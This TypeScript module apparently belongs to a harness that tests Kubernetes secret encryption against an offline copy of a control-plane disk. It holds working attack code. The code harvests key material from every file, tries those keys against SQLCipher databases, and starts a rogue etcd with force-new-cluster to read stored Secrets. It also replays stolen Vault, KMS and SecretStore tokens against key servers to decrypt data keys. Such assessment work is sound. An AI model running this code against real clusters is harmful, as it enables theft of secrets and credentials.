// disk: an offline copy of the control-plane node's disk. The attacker searches every file for canaries, collects key
// material from the files (configuration text, raw key files), reads stored values from the databases it finds - a
// SQLite store directly (trying the keys it found when the file is SQLCipher-encrypted), an etcd member directory by
// starting its own etcd on a copy of it - and decrypts what it can. Credentials found on the disk are reused: a KMS
// plugin's key-server token, and a SecretStore's token Secret in the datastore (secret-store-tokens.ts).
import { openDatabase, type SqliteDatabase } from '../../lib/sqlite-database.js';
import { cp, mkdir, readdir, readFile, stat } from 'node:fs/promises';
import { join, relative } from 'node:path';
import { parse } from 'yaml';
import type { Attack } from '../attack.js';
import { fingerprint } from '../canary.js';
import type { StoredValue } from '../decrypt-trial.js';
import { runEtcd } from '../etcd-runner.js';
import { findKeyCandidates, type KeyCandidate } from '../key-candidates.js';
import { emptyLoot, type Loot } from '../loot.js';
import { reuseAwsKmsCredentials, type AwsKmsPluginBackend } from './aws-kms-credential-reuse.js';
import { readEtcdSecrets } from './datastore-read.js';
import { EXTERNAL_SECRETS_END, EXTERNAL_SECRETS_PREFIX, replaySecretStoreTokens } from './secret-store-tokens.js';

const SQLITE_HEADER = Buffer.from('SQLite format 3\0', 'latin1');
const MAX_FILE = 256 << 20;
const KEY_FILE_MAX = 4 << 20;
const SECRETS_FROM = '/registry/secrets/';
const SECRETS_TO = '/registry/secrets0';

async function walk(dir: string): Promise<string[]> {
  const out: string[] = [];
  for (const e of await readdir(dir, { withFileTypes: true })) {
    const p = join(dir, e.name);
    if (e.isDirectory()) out.push(...(await walk(p)));
    else if (e.isFile()) out.push(p);
  }
  return out;
}

/** Rows of every revision still in the file (old values included: a copy holds history until compaction). */
function readSqliteRows(db: SqliteDatabase, source: string, from = SECRETS_FROM, to = SECRETS_TO): StoredValue[] {
  const rows = db
    .prepare('SELECT name, value, old_value FROM kv WHERE name >= ? AND name < ?')
    .all(from, to) as { name: string; value: Buffer | null; old_value: Buffer | null }[];
  return rows.flatMap((r) =>
    [r.value, r.old_value].filter((v): v is Buffer => v !== null && v.length > 0).map((value) => ({ key: r.name, value, source })),
  );
}

interface DbRead {
  secrets: StoredValue[];
  /** external-secrets.io objects (SecretStores, ExternalSecrets). */
  objects: StoredValue[];
}

function readDb(db: SqliteDatabase, source: string): DbRead {
  return { secrets: readSqliteRows(db, source), objects: readSqliteRows(db, source, EXTERNAL_SECRETS_PREFIX, EXTERNAL_SECRETS_END) };
}

async function readSqliteCopy(file: string, scratch: string, keys: KeyCandidate[], label: string, loot: Loot): Promise<DbRead> {
  const dir = join(scratch, `sqlite-${fingerprint(Buffer.from(file)).slice(7)}`);
  await mkdir(dir, { recursive: true });
  const copy = join(dir, 'copy.db');
  await cp(file, copy);
  await cp(`${file}-wal`, `${copy}-wal`).catch(() => undefined);
  const header = Buffer.alloc(16);
  const fd = await readFile(copy);
  fd.copy(header, 0, 0, 16);
  if (header.equals(SQLITE_HEADER)) {
    const db = openDatabase(copy);
    try {
      const read = readDb(db, `disk: ${label} (SQLite, read directly)`);
      loot.notes.push(`${label}: plain SQLite file, ${read.secrets.length} stored Secret value(s) read`);
      return read;
    } finally {
      db.close();
    }
  }
  // SQLCipher: every page is encrypted; only the right 256-bit key opens it. Try each key-shaped thing on the disk.
  for (const k of keys.filter((k) => k.bytes.length === 32)) {
    const db = openDatabase(copy);
    try {
      db.pragma(`cipher = 'sqlcipher'`);
      db.key(k.bytes);
      db.prepare('SELECT count(*) FROM sqlite_master').get();
      const read = readDb(db, `disk: ${label} (SQLCipher, opened with key ${fingerprint(k.bytes)} from ${k.where})`);
      loot.notes.push(`${label}: SQLCipher file opened with key ${fingerprint(k.bytes)} found on the disk (${k.where})`);
      return read;
    } catch {
      // not this key
    } finally {
      db.close();
    }
  }
  loot.notes.push(`${label}: no SQLite header (SQLCipher-encrypted); none of ${keys.filter((k) => k.bytes.length === 32).length} 32-byte key candidate(s) on the disk opens it`);
  return { secrets: [], objects: [] };
}

/**
 * A KMS plugin configuration on the disk names its key server and a credential file; when that file is on the disk
 * too, the attacker reuses the credential against the key server over the network (the plugin's own access, from
 * anywhere that reaches the key server - which is what a token without network binding permits).
 */
async function reuseKmsPluginCredentials(file: string, root: string, loot: Loot): Promise<void> {
  let cfg: { backend?: { type?: string; address?: string; key?: string; transitMount?: string; auth?: { type?: string; tokenFile?: string } } };
  try {
    cfg = parse(await readFile(file, 'utf8')) as typeof cfg;
  } catch {
    return;
  }
  const b = cfg?.backend;
  if (b?.type === 'aws-kms') return reuseAwsKmsCredentials(b as AwsKmsPluginBackend, file, root, loot);
  if (b?.type !== 'vault-transit' || !b.address || !b.key || b.auth?.type !== 'token' || !b.auth.tokenFile) return;
  const rel = relative(root, b.auth.tokenFile);
  if (rel.startsWith('..')) {
    loot.notes.push(`${relative(root, file)}: KMS plugin config names a token file outside the disk`);
    return;
  }
  const token = (await readFile(b.auth.tokenFile, 'utf8').catch(() => '')).trim();
  if (!token) return;
  const url = `${b.address}/v1/${b.transitMount ?? 'transit'}/decrypt/${b.key}`;
  loot.notes.push(`${relative(root, file)}: KMS plugin config with a key-server token on the disk (${rel}); reused against ${b.address}`);
  loot.oracles.push({
    name: `the KMS plugin's key-server token from the disk (${rel}) replayed against ${b.address}`,
    async unwrap(o, _provider, signal) {
      const res = await fetch(url, {
        method: 'PUT',
        headers: { 'X-Vault-Token': token, 'Content-Type': 'application/json' },
        body: JSON.stringify({ ciphertext: Buffer.from(o.encryptedDekSource).toString('latin1') }),
        signal,
      }).catch(() => undefined);
      if (!res?.ok) return undefined;
      const plain = ((await res.json()) as { data?: { plaintext?: string } }).data?.plaintext;
      return plain ? Buffer.from(plain, 'base64') : undefined;
    },
  });
}

export const diskAttack: Attack = {
  id: 'disk',
  requires: ['disk'],
  async run(target, signal) {
    const loot = emptyLoot();
    const disk = target.disk;
    if (!disk) return { ...loot, notApplicable: 'no node disk in this deployment' };
    const files = await walk(disk.root);
    const keys: KeyCandidate[] = [];
    const dbFiles: string[] = [];
    const etcdDirs: string[] = [];
    for (const file of files) {
      const rel = relative(disk.root, file);
      const size = (await stat(file)).size;
      if (size > MAX_FILE) {
        loot.notes.push(`${rel}: ${size} bytes, skipped`);
        continue;
      }
      const bytes = await readFile(file);
      loot.blobs.push({ label: `disk: ${rel}`, bytes, locate: (o) => `byte ${o}` });
      // Key material in files: configuration text (base64 keys) and raw or hex key files.
      // (Large files are data - databases, WALs; key material is looked for in files of configuration size.)
      if (size <= KEY_FILE_MAX) keys.push(...findKeyCandidates(bytes).map((k) => ({ ...k, where: `${rel} ${k.where}` })));
      if (size === 32) keys.push({ bytes, how: 'raw 32-byte file', where: rel });
      const text = bytes.toString('latin1').trim();
      if (/^[0-9a-fA-F]{64}$/.test(text)) keys.push({ bytes: Buffer.from(text, 'hex'), how: 'hex key file', where: rel });
      if (file.endsWith('.db')) dbFiles.push(file);
      if (rel.endsWith(join('member', 'snap', 'db'))) etcdDirs.push(file.slice(0, -join('member', 'snap', 'db').length - 1));
    }
    loot.keys.push(...keys);
    loot.notes.push(`${files.length} file(s) searched; ${keys.length} key candidate(s) in them`);
    for (const file of files.filter((f) => f.endsWith('.yaml'))) await reuseKmsPluginCredentials(file, disk.root, loot);
    const objects: StoredValue[] = [];
    for (const db of dbFiles) {
      const read = await readSqliteCopy(db, target.scratch, keys, relative(disk.root, db), loot);
      loot.values.push(...read.secrets);
      objects.push(...read.objects);
    }
    for (const dir of etcdDirs) {
      // The attacker's own etcd on a copy of the member directory: what `etcd --force-new-cluster` on a stolen disk gives.
      const copy = join(target.scratch, `etcd-${etcdDirs.indexOf(dir)}`);
      await cp(dir, copy, { recursive: true });
      const etcd = await runEtcd(copy, { forceNewCluster: true });
      try {
        const values = await readEtcdSecrets(etcd.endpoint, signal);
        const source = `disk: ${relative(disk.root, dir)} (etcd data dir, read with the attacker's own etcd)`;
        loot.values.push(...values.map((v) => ({ ...v, source })));
        objects.push(...(await readEtcdSecrets(etcd.endpoint, signal, EXTERNAL_SECRETS_PREFIX)).map((v) => ({ ...v, source })));
        loot.notes.push(`${relative(disk.root, dir)}: etcd member directory, ${values.length} stored Secret value(s) read`);
      } finally {
        await etcd.stop();
      }
    }
    if (objects.length > 0) await replaySecretStoreTokens(objects, loot.values, 'disk', loot, signal, target.awsEndpoint);
    return loot;
  },
};
